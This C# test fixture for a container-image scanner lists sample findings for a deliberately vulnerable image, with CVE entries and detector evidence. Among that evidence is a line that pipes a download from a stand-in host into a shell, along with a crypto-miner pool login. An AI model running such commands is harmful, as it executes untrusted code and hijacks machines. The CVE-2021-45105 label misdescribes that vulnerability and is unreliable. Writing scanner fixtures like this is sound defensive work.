using DockerScan.Core.Checks;
using DockerScan.Core.Findings;
using DockerScan.Core.Reputations;
using DockerScan.Core.Scans;

namespace DockerScan.TestKit.Builders;

/// <summary>What the vulnerable sample's scanners found.</summary>
public static class SampleFindings
{
    /// <summary>Everything.</summary>
    public static IReadOnlyList<FindingDraft> All() =>
    [
        Drafts.Vulnerability("CVE-2024-5535", "libssl3", "3.0.11-1~deb12u2", "3.0.15-1~deb12u1", Severity.Critical, "openssl: SSL_select_next_proto buffer overread", null, CheckIds.InsecureCoding),
        Drafts.Vulnerability("CVE-2024-4741", "libssl3", "3.0.11-1~deb12u2", "3.0.14-1~deb12u1", Severity.High, "openssl: use after free with SSL_free_buffers", null, CheckIds.InsecureCoding),
        Drafts.Vulnerability("CVE-2023-5678", "libssl3", "3.0.11-1~deb12u2", "3.0.13-1~deb12u1", Severity.Medium, "openssl: generating excessively long X9.42 DH keys is very slow", null, CheckIds.NetworkSecurity),
        Drafts.Vulnerability("CVE-2024-0727", "libssl3", "3.0.11-1~deb12u2", "3.0.13-1~deb12u1", Severity.Low, "openssl: denial of service via null dereference"),
        Drafts.Vulnerability("CVE-2023-4911", "libc6", "2.36-9+deb12u1", "2.36-9+deb12u3", Severity.High, "glibc: buffer overflow in ld.so leading to privilege escalation (\"Looney Tunables\")"),
        Drafts.Vulnerability("CVE-2023-6246", "libc6", "2.36-9+deb12u1", "2.36-9+deb12u4", Severity.High, "glibc: heap-based buffer overflow in __vsyslog_internal()"),
        Drafts.Vulnerability("CVE-2021-45105", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.12.3, 2.17.0", Severity.Critical, "log4j-core: remote code execution through JNDI look-ups", CheckIds.OutdatedSoftware),
        Drafts.Vulnerability("CVE-2023-45853", "zlib1g", "1:1.2.13.dfsg-1", null, Severity.Critical, "zlib: integer overflow in zipOpenNewFileInZip4_6", CheckIds.InsecureCoding),
        Drafts.Vulnerability("CVE-2011-3374", "apt", "2.6.1", null, Severity.Low, "apt-key does not check signatures well", CheckIds.WeakAccessControl),
        Root(),
        Drafts.Rule(CheckIds.SecretEnv, "env-password", "ENV REDIS_PASSWORD", Severity.High, "Password in the environment", "REDIS_PASSWORD=hun***"),
        Drafts.Rule(CheckIds.AutorunFile, "download-and-run", "/usr/local/bin/setup.sh", Severity.Medium, "Script downloads a file and runs it", "line 12: curl -s http://pool.example/x | sh\nline 13: chmod +x /tmp/x\nline 14: /tmp/x -o `hostname`"),
        Drafts.Rule("behavior.miner", "stratum-login", "pool.example:3333", Severity.Critical, "Speaks the Stratum mining protocol", "{\"method\":\"login\",\"params\":{\"login\":\"4AX***\"}}"),
        Drafts.Rule("network.external-contact", "contact", "185.71.65.92:3333", Severity.Medium, "Contacted pool.example", "tcp 185.71.65.92:3333, 4 times"),
        Drafts.Rule("network.tcp-process", "not-exposed", "0.0.0.0:4444", Severity.Low, "Listens on a port that the image does not expose", "tcp 0.0.0.0:4444"),
    ];

    /// <summary>The image runs as root.</summary>
    public static FindingDraft Root() => Drafts.Rule(CheckIds.RootUser, "user-unset", "USER", Severity.High, "The image runs as root", "no USER is configured");

    /// <summary>A chain of files that start by themselves.</summary>
    public static IReadOnlyList<AutorunFile> AutorunFiles() =>
    [
        new() { Path = "/usr/local/bin/docker-entrypoint.sh", Kind = AutorunKind.Script, SizeBytes = 661, Sha256 = new string('d', 64), StartedBy = "ENTRYPOINT" },
        new() { Path = "/usr/local/bin/setup.sh", Kind = AutorunKind.Script, SizeBytes = 1_204, Sha256 = new string('e', 64), StartedBy = "/usr/local/bin/docker-entrypoint.sh", Depth = 1, Reputation = Reputation.Suspicious },
        new() { Path = "/tmp/x", Kind = AutorunKind.Missing, StartedBy = "/usr/local/bin/setup.sh", Depth = 2 },
        new() { Path = "/usr/local/bin/redis-server", Kind = AutorunKind.Elf, SizeBytes = 15_300_224, Sha256 = new string('f', 64), StartedBy = "CMD", Reputation = Reputation.Harmless },
    ];
}
